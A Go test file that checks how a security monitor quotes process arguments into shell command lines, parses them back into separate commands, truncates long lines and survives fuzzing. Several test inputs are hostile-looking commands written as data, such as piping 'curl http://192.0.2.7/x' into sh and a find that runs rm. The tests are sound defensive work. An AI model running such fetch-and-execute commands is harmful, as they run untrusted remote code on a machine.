package collect

import (
	"os/exec"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/tvilling/tvilling/internal/security/command"
)

// argv has each argument ended by a NUL.
func argv(words ...string) []byte { return []byte(strings.Join(words, "\x00") + "\x00") }

func TestCommandLine(t *testing.T) {
	for _, c := range []struct {
		words []string
		want  string
	}{
		{[]string{"/usr/bin/curl", "-s", "http://192.0.2.7/x.sh?a=1,2"}, "/usr/bin/curl -s http://192.0.2.7/x.sh?a=1,2"},
		{[]string{"sh", "-c", "curl http://192.0.2.7/x | sh"}, "sh -c 'curl http://192.0.2.7/x | sh'"},
		{[]string{"echo", "it's", ""}, `echo 'it'\''s' ''`},
		{[]string{"grep", "|", "a\tb"}, "grep '|' 'a\tb'"},
		{[]string{"find", ".", "-name", "*.c", "-exec", "rm", "{}", ";"}, "find . -name *.c -exec rm {} ';'"},
		{[]string{"echo", "a\xff\xfeb", "Grüße"}, "echo a\uFFFDb Grüße"},
	} {
		got, cut := appendCommandLine(nil, argv(c.words...))
		if string(got) != c.want || cut {
			t.Errorf("%q is %s (cut: %v), want %s", c.words, got, cut, c.want)
		}
	}
}

// The hub reads the line back to the commands that were run.
func TestCommandLineAtTheHub(t *testing.T) {
	for _, c := range []struct {
		words []string
		want  []string
	}{
		{[]string{"/usr/bin/wget", "a b", "it's", `"q"`, "$x", "`y`", "$(z)", "<(w)", "a;b", ";", "|", "&&", ">", "2>c", `d\e`}, []string{"wget a b it's \"q\" $x `y` $(z) <(w) a;b ; | && > 2>c d\\e"}},
		{[]string{"sh", "-c", "curl 'http://192.0.2.7/a b' | sh"}, []string{"curl http://192.0.2.7/a b", "sh"}},
		{[]string{"/bin/bash", "-c", "echo \"it's\" > /tmp/x; id"}, []string{"echo it's > /tmp/x", "id"}},
	} {
		line, _ := appendCommandLine(nil, argv(c.words...))
		var l command.Line
		l.Parse(c.words[0], string(line))
		if d := cmp.Diff(c.want, l.Commands); d != "" {
			t.Errorf("%s: %s", line, d)
		}
	}
}

// A shell reads the line back to the same words.
func TestCommandLineInAShell(t *testing.T) {
	words := []string{"a b", "it's", "''", `"`, `\`, "$HOME", "`id`", "$(id)", "a;b", "|", "&", "\n", "\t", "\x01", "#x", "-n", "", "Grüße", ">", "a\\"}
	line, _ := appendCommandLine(nil, argv(words...))
	out, err := exec.CommandContext(t.Context(), "/bin/sh", "-c", `printf '%s\0' `+string(line)).Output()
	if err != nil {
		t.Fatal(err)
	}
	got := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
	if d := cmp.Diff(words, got); d != "" {
		t.Error(d)
	}
}

func TestCommandLineIsCut(t *testing.T) {
	for _, c := range []struct{ name, long, end string }{
		{"plain", strings.Repeat("x", 5000), "x"},
		{"quoted", strings.Repeat("x ", 5000), "'"},
		{"quotes", strings.Repeat("'", 5000), `'\'''`},
		{"runes", strings.Repeat("ü", 5000), "ü"},
	} {
		t.Run(c.name, func(t *testing.T) {
			line, cut := appendCommandLine([]byte("before"), argv("a", c.long, "more"))
			line = line[len("before"):]
			if n := len(line); n > maxCommandLine || n < maxCommandLine-5 || !cut || !utf8.Valid(line) || !strings.HasSuffix(string(line), c.end) {
				t.Errorf("%d bytes, cut: %v, end: %s", n, cut, line[n-10:])
			}
		})
	}
	for n := maxCommandLine - 3; n <= maxCommandLine+1; n++ { // with the blank
		line, cut := appendCommandLine(nil, argv(strings.Repeat("x", n-2), "y"))
		if want := n > maxCommandLine; cut != want || !want && len(line) != n {
			t.Errorf("of %d bytes: %d, cut: %v", n, len(line), cut)
		}
	}
}

func FuzzCommandLine(f *testing.F) {
	f.Add(argv("a", "b c", "it's"))
	f.Add([]byte("\x00\x00a"))
	f.Add([]byte("\xff\x00'\x00"))
	f.Add([]byte(strings.Repeat("'a", 3000)))
	f.Fuzz(func(t *testing.T, args []byte) {
		line, cut := appendCommandLine(nil, args)
		if len(line) > maxCommandLine || !utf8.Valid(line) {
			t.Fatalf("%d bytes: %q", len(line), line)
		}
		if got, want := words(string(line)), strings.Split(strings.TrimSuffix(strings.ToValidUTF8(string(args), "\uFFFD"), "\x00"), "\x00"); !cut && len(args) > 0 && utf8.Valid(args) {
			if d := cmp.Diff(want, got); d != "" {
				t.Errorf("%q: %s", line, d)
			}
		}
	})
}

// words reads a line back, in the simplest way that can be.
func words(line string) []string {
	var all []string
	var w strings.Builder
	quoted := false
	for i := 0; i < len(line); i++ {
		switch c := line[i]; {
		case c == '\'':
			quoted = !quoted
		case c == '\\' && !quoted:
			i++
			w.WriteByte(line[i])
		case c == ' ' && !quoted:
			all = append(all, w.String())
			w.Reset()
		default:
			w.WriteByte(c)
		}
	}
	return append(all, w.String())
}
